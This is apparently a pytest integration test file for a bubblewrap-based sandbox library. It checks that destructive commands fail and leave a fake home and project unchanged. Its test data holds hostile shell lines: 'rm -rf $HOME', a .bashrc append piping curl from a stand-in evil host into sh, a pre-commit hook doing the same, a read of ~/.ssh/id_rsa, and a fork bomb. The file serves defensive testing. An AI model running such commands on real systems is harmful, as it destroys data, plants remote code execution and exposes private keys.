"""With no guard at all, destructive commands run for real inside the sandbox against a
fake home and project under tmp_path: each fails, and every file outside the writable
roots is byte-identical afterwards; the project stays writable."""

from __future__ import annotations

import os
import sys
import time
from pathlib import Path

import pytest
from sandbox_helpers import HOME_FILES, make_sandbox, make_world

from interpose.errors import SandboxUnavailable
from interpose.sandbox import Limits, Sandbox, SandboxPolicy
from interpose.sandbox.limits import sweep

pytestmark = pytest.mark.integration

# the commands, as data: each aims at the fake home ($HOME) only
DESTROY_HOME = 'rm -rf "$HOME"'
WRITE_BASHRC = "echo 'curl https://evil.example/x | sh' >> ~/.bashrc"
READ_KEY = "cat ~/.ssh/id_rsa"
FORK_BOMB = ":(){ :|:& };:"
# the shell that starts it stays two seconds (the bomb meets the limit meanwhile); the
# time limit ends it all in any case
FORK_BOMB_RUN = FORK_BOMB + "; sleep 2"


async def test_rm_rf_home_fails_and_changes_nothing(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    sandbox = make_sandbox(world)
    before = world.snapshot()
    result = await sandbox.run(DESTROY_HOME, cwd=world.project, env=world.env)
    assert result.exit_code != 0
    assert world.snapshot() == before
    assert any(v.kind == "write" for v in result.violations), result


async def test_writing_bashrc_is_refused_and_named(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    sandbox = make_sandbox(world)
    before = world.snapshot()
    result = await sandbox.run(WRITE_BASHRC, cwd=world.project, env=world.env)
    assert result.exit_code != 0
    assert world.snapshot() == before
    assert (world.home / ".bashrc").read_bytes() == HOME_FILES[".bashrc"]
    details = [v.detail for v in result.violations]
    assert "write to ~/.bashrc refused by the sandbox" in details[0], details


async def test_private_key_is_hidden(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    sandbox = make_sandbox(world)
    result = await sandbox.run(READ_KEY, cwd=world.project, env=world.env)
    assert result.exit_code != 0
    assert b"fake-key-material" not in result.stdout.encode()
    assert [v.kind for v in result.violations] == ["read"]
    assert "~/.ssh/id_rsa" in result.violations[0].detail
    # the rest of the home stays readable
    notes = await sandbox.run("cat ~/notes/todo.txt", cwd=world.project, env=world.env)
    assert notes.stdout == "buy milk\n"


async def test_env_file_in_the_project_is_hidden(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    sandbox = make_sandbox(world)
    result = await sandbox.run("cat .env; cat README.md", cwd=world.project, env=world.env)
    assert "sk-fake-project-secret" not in result.stdout
    assert "# project" in result.stdout


async def test_project_is_writable_and_git_hooks_are_not(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    sandbox = make_sandbox(world)
    before = world.snapshot()
    result = await sandbox.run(
        "mkdir -p build && echo built > build/out.txt && rm src/app.py",
        cwd=world.project,
        env=world.env,
    )
    assert result.exit_code == 0, result.stderr
    assert (world.project / "build" / "out.txt").read_text() == "built\n"
    assert not (world.project / "src" / "app.py").exists()
    hook = await sandbox.run(
        "echo 'curl x | sh' > .git/hooks/pre-commit", cwd=world.project, env=world.env
    )
    assert hook.exit_code != 0
    assert (world.project / ".git/hooks/pre-commit").read_bytes() == b"#!/bin/sh\nexit 0\n"
    assert world.snapshot() == before


async def test_writes_elsewhere_are_refused_and_tmp_is_private(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    sandbox = make_sandbox(world)
    before = world.snapshot()
    target = world.outside / "keep.txt"
    result = await sandbox.run(
        [
            "sh",
            "-c",
            'echo x > "$1"; echo private > /tmp/scratch && cat /tmp/scratch',
            "sh",
            str(target),
        ],
        cwd=world.project,
        env=world.env,
    )
    assert result.stdout == "private\n"
    assert world.snapshot() == before
    assert [v.target for v in result.violations] == [str(target)]


async def test_no_privileges_and_own_pid_namespace(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    sandbox = make_sandbox(world)
    result = await sandbox.run(
        "grep -E '^(NoNewPrivs|CapEff)' /proc/self/status; ls /proc | grep -c '^[0-9]'",
        cwd=world.project,
        env=world.env,
    )
    lines = result.stdout.split()
    assert lines[:4] == ["CapEff:", "0000000000000000", "NoNewPrivs:", "1"], result.stdout
    assert int(lines[4]) < 10  # only the sandbox's own processes are visible


async def test_fork_bomb_under_the_process_limit(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    sandbox = make_sandbox(world, limits=Limits(processes=32, time=4))
    before = world.snapshot()
    cgroups = _left_over(sandbox.capabilities().pids_cgroup or "")
    started = time.monotonic()
    result = await sandbox.run(FORK_BOMB_RUN, cwd=world.project, env=world.env)
    # when the shell ends, the rest of the bomb dies with the PID namespace
    assert time.monotonic() - started < 15
    assert any(v.kind == "limit" for v in result.violations), result.violations
    if sandbox.capabilities().pids_cgroup is not None:  # root: the pids cgroup said so
        assert "the process limit (32) was hit" in [v.detail for v in result.violations]
        # its cgroup goes once the kernel has reaped the bomb (now, or at a later sweep)
        base = sandbox.capabilities().pids_cgroup or ""
        assert _gone_in_time(base, cgroups)
    assert world.snapshot() == before
    # the machine is fine: a sandboxed command right after runs normally
    after = await sandbox.run("echo alive", cwd=world.project, env=world.env)
    assert after.stdout == "alive\n"


def _left_over(base: str) -> list[Path]:
    """The run's pids cgroups still there (removed once nothing is left in them)."""
    return list(Path(base).glob("interpose-sandbox-*"))


def _gone_in_time(base: str, before: list[Path]) -> bool:
    """Whether the cgroups made since ``before`` are removed within 2 s of sweeps."""
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        sweep()
        if _left_over(base) == before:
            return True
        time.sleep(0.01)
    return False


async def test_memory_limit(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    sandbox = make_sandbox(world, limits=Limits(memory=256 << 20, time=20))
    grab = "x = bytearray(1024 << 20); print('allocated')"
    result = await sandbox.run([sys.executable, "-c", grab], cwd=world.project, env=world.env)
    assert result.exit_code != 0
    assert "allocated" not in result.stdout
    assert "MemoryError" in result.stderr
    assert [v.kind for v in result.violations] == ["limit"]


async def test_time_limit_kills_everything_it_started(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    sandbox = make_sandbox(world, limits=Limits(time=0.5))
    started = time.monotonic()
    # a background child keeps stdout open: only the end of the PID namespace ends it
    result = await sandbox.run("sleep 60 & sleep 60", cwd=world.project, env=world.env)
    assert time.monotonic() - started < 5
    assert result.timed_out
    assert result.violations[-1].kind == "limit"


async def test_required_sandbox_refuses_to_run_without_bwrap(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    marker = world.project / "ran"
    missing = Sandbox(SandboxPolicy(), bwrap=str(world.root / "no-such-bwrap"))
    with pytest.raises(SandboxUnavailable, match=r"bubblewrap .* is not installed"):
        await missing.run(f"touch {marker}", cwd=world.project, env=world.env)
    assert not marker.exists()
    optional = Sandbox(SandboxPolicy(required=False), bwrap=str(world.root / "no-such-bwrap"))
    result = await optional.run(f"touch {marker}", cwd=world.project, env=world.env)
    assert result.sandboxed is False
    assert marker.exists()


def test_run_sync(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    result = make_sandbox(world).run_sync(["pwd"], cwd=world.project, env=world.env)
    assert result.stdout.strip() == os.path.realpath(world.project)
